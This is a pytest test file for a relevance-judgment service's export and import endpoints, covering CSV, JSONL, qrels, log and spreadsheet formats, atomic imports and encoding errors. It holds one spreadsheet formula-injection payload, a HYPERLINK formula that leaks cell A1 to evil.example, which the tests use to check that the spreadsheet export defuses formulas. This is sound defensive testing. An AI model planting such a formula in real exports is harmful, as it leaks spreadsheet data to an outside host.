"""Exports and imports of judgments: every form is read back by code other than the service's."""

import csv
import io
import json

import httpx
import pytest

from audiosim.collection.collection import Collection
from audiosim.collection.pool import build_pool
from audiosim.service.operations.exports import negotiated

JUDGMENTS = "/v1/collections/small/judgments"


@pytest.fixture(scope="module")
def server(commanded, folders, tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    with commanded(folders, root / "log", "--db", f"sqlite:///{root / 'campaign.db'}") as running:
        yield running


@pytest.fixture
def client(server):
    with httpx.Client(base_url=server.url, timeout=180) as one:
        yield one


def key(judgment):
    return judgment.query, judgment.document, judgment.grade, judgment.assessor, judgment.time


@pytest.mark.slow
def test_csv_and_json_lines_are_read_back_as_they_were(client, small, folders, tmp_path):
    for form, kind in (("csv", "text/csv"), ("jsonl", "application/jsonl")):
        answer = client.get(JUDGMENTS, params={"format": form})
        assert answer.headers["content-type"].startswith(kind)
        assert answer.headers["audiosim-state"] == str(client.get("/v1/collections/small").json()["state"])
        path = tmp_path / f"judgments.{form}"
        path.write_bytes(answer.content)
        read = Collection.load(folders[0], judgments=path).judgments
        assert list(map(key, read))[: len(small.judgments)] == list(map(key, small.judgments))


def test_qrels_have_the_mean_grade_of_each_pair(client, small):
    lines = [line.split() for line in client.get(JUDGMENTS, params={"format": "qrels"}).text.splitlines()]
    means = {(query, document): float(grade) for query, zero, document, grade in lines}
    first, second = small.judgments[:2]
    assert first.pair == second.pair
    assert means[first.pair] == (first.grade + second.grade) / 2
    assert len(means) == len(lines)
    assert {one.pair for one in small.judgments} <= set(means)  # other tests judge here as well


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("*/*", "csv"),
        ("text/csv", "csv"),
        ("text/plain", "qrels"),
        ("application/jsonl", "jsonl"),
        ("application/x-ndjson", "jsonl"),
        ("text/html, text/plain;q=0.5, text/csv;q=0.9", "csv"),
        ("text/csv;q=0, text/plain", "qrels"),
        ("text/plain, text/csv", "qrels"),
    ],
)
def test_the_accept_header_chooses_the_form(accept, form):
    assert negotiated(accept) == form


def test_a_form_that_there_is_not_is_refused(client):
    refused = client.get(JUDGMENTS, headers={"Accept": "image/png"})
    assert refused.status_code == 406
    assert refused.json()["detail"].startswith("judgments are available as text/csv, text/plain")
    unknown = client.get(JUDGMENTS, params={"format": "xml"})
    known = "aspects, answers, csv, spreadsheet, qrels, jsonl or log, got 'xml'"
    assert (unknown.status_code, unknown.json()["detail"]) == (422, f"format: expected {known}")


def unjudged(small, count):
    answered = {judgment.pair for judgment in small.judgments}
    return [pair for pair in build_pool(small).pairs if pair not in answered][:count]


def test_a_file_is_taken_in_whole_or_not_at_all(client, small, imported):
    first, second, third = unjudged(small, 3)
    before = client.get(JUDGMENTS).text
    wrong = f"{first.query} 0 {first.document} 10\n{second.query} 0 {second.document} 101\n"
    refused = imported(client, f"{JUDGMENTS}/import", wrong)
    assert refused["problem"].startswith("line 2: grade 101 is not on the fine scale")
    outside = f"{first.query} 0 {first.document} 10\n{second.query} 0 nobody 10\n"
    refused = imported(client, f"{JUDGMENTS}/import", outside)
    assert refused["problem"].startswith("line 2: no system retrieved document nobody for query")
    assert client.get(JUDGMENTS).text == before

    right = f"query,document,fine,assessor\n{first.query},{first.document},10,ann\n"
    right += f"{second.query},{second.document},20,bob\n"
    for _ in range(2):
        done = imported(client, f"{JUDGMENTS}/import", right, headers={"Idempotency-Key": "file 1"})
        assert (done["status"], done["written"]) == ("done", 2)
    rows = list(csv.DictReader(io.StringIO(client.get(JUDGMENTS).text)))
    assert [(row["document"], row["grade"], row["assessor"]) for row in rows[-2:]] == [
        (first.document, "10", "ann"),
        (second.document, "20", "bob"),
    ]
    lines = json.dumps({"query": third.query, "document": third.document, "grade": 30})
    assert imported(client, f"{JUDGMENTS}/import", lines)["written"] == 1


@pytest.mark.parametrize(
    "body",
    [b"", b"\xff\xfe\x00", b"a b\n", b"{}\n", b"\x1f\x8b broken gzip", b'{"f\\ud800ine": 1}\n', b"query,do\0c\n"],
)
def test_a_file_without_judgments_is_refused_in_one_line(client, body, imported):
    refused = imported(client, f"{JUDGMENTS}/import", body)
    assert refused["status"] == "failed"
    assert "/tmp" not in refused["problem"]
    assert len(refused["problem"].splitlines()) == 1


def test_the_whole_log_is_to_be_had_line_by_line(client):
    client.post("/v1/collections/coarse/next", json={"assessor": "ann", "count": 3})
    lines = client.get("/v1/collections/coarse/judgments?format=log").text.splitlines()
    rows = [json.loads(line) for line in lines]
    assert [row["number"] for row in rows] == [1, 2, 3]
    assert {row["kind"] for row in rows} == {"lease"}


@pytest.mark.slow
def test_the_command_reads_the_judgments_of_the_database(client, server, run, folders, small, check_close):
    url = f"sqlite:///{server.log.parent / 'campaign.db'}"
    code, said, _ = run("estimate", folders[0], "--measure", "CG@4", "--judgments", url, "--format", "json")
    assert code == 0
    there, here = client.get("/v1/collections/small/ranking").json(), json.loads(said)
    assert here["model"] == "joint-fine"
    check_close({name: there[name] for name in here}, here)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def answered(server, small):
    """Two pairs: one judged under a lease with all fields, and revised; one that cannot be judged."""
    with httpx.Client(base_url=server.url, timeout=180) as client:
        first, second = client.post(
            JUDGMENTS.replace("judgments", "next"), json={"assessor": "eve", "count": 2}
        ).json()["pairs"]
        said = {"query": first["query"], "document": first["document"], "assessor": "eve"}
        more = {
            "seconds": 12.5,
            "played_s": 30,
            "query_played_s": 10,
            "document_played_s": 20,
            "note": HOSTILE + "\nnext line",
        }
        assert client.post(JUDGMENTS, json=said | {"fine": 1}).status_code == 201
        assert client.post(JUDGMENTS, json=said | {"fine": 70} | more).status_code == 201
        cannot = {"query": second["query"], "document": second["document"], "assessor": "eve", "cannot": "@noise"}
        assert client.post(JUDGMENTS, json=cannot).status_code == 201
    return first, second


def test_csv_and_json_lines_carry_everything(client, answered, small, folders, tmp_path):
    first, second = answered
    records = [json.loads(line) for line in client.get(JUDGMENTS, params={"format": "jsonl"}).text.splitlines()]
    mine = {(record["query"], record["document"]): record for record in records if record.get("assessor") == "eve"}
    judged, refused = (mine[pair["query"], pair["document"]] for pair in answered)
    assert (judged["grade"], judged["fine"], judged["note"]) == (70, 70, HOSTILE + "\nnext line")
    heard = {name: judged[name] for name in ("seconds", "played_s", "query_played_s", "document_played_s")}
    assert heard == {"seconds": 12.5, "played_s": 30, "query_played_s": 10, "document_played_s": 20}
    assert (refused["cannot"], "grade" in refused) == ("@noise", False)
    assert refused["leased"] < refused["until"] == second["until"]
    rows = list(csv.DictReader(io.StringIO(client.get(JUDGMENTS, params={"format": "csv"}).text)))
    row = next(row for row in rows if row["assessor"] == "eve" and row["grade"])
    assert (row["fine"], row["note"], row["played_s"]) == ("70", HOSTILE + "\\nnext line", "30")
    for form in ("csv", "jsonl"):
        path = tmp_path / f"judgments.{form}"
        path.write_bytes(client.get(JUDGMENTS, params={"format": form}).content)
        read = Collection.load(folders[0], judgments=path).judgments
        assert [(one.document, one.grade) for one in read if one.assessor == "eve"] == [(first["document"], 70)]


def test_a_form_for_spreadsheets_defuses_formulas_and_says_so(client, answered):
    plain = client.get(JUDGMENTS, params={"format": "csv"})
    answer = client.get(JUDGMENTS, params={"format": "spreadsheet"})
    assert answer.headers["content-disposition"].endswith('-spreadsheet.csv"')
    assert "audiosim-defused" not in plain.headers
    before, after = (list(csv.reader(io.StringIO(one.text))) for one in (plain, answer))
    defused = [row.pop() for row in after]
    assert (defused[0], [said for said in defused[1:] if said]) == ("defused", ["note", "cannot"])
    pairs = [(a, b) for one, other in zip(before, after, strict=True) for a, b in zip(one, other, strict=True)]
    changed = [(a, b) for a, b in pairs if a != b]
    assert len(changed) == int(answer.headers["audiosim-defused"]) == 2
    assert changed == [(HOSTILE + "\\nnext line", "'" + HOSTILE + "\\nnext line"), ("@noise", "'@noise")]
    assert not any(b[:1] in tuple("=+-@\t\r") for _, b in pairs if b)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"\xef\xbb\xbf{}", "the body is not JSON: it starts with a byte order mark, expected none"),
        ('{"query": "q0"}'.encode("utf-16"), "the body is not JSON: it looks like UTF-16 or UTF-32, expected UTF-8"),
        ('{"query": "q0"}'.encode("utf-16-le"), "the body is not JSON: it looks like UTF-16 or UTF-32, expected UTF-8"),
        (b'{"query": "\\ud800"}', "the body contains a lone surrogate, which is not text"),
    ],
)
def test_a_body_in_another_encoding_is_told_so(client, body, message):
    refused = client.post(JUDGMENTS, content=body)
    assert (refused.status_code, refused.json()["detail"]) == (422, message)


def test_files_in_another_encoding_are_told_so(client, imported):
    refused = imported(client, f"{JUDGMENTS}/import", "query,document,fine\n".encode("utf-16-le"))
    wanted = "line 1: the file looks like UTF-16 without its mark, expected UTF-8: save it as UTF-8"
    assert refused["problem"] == wanted
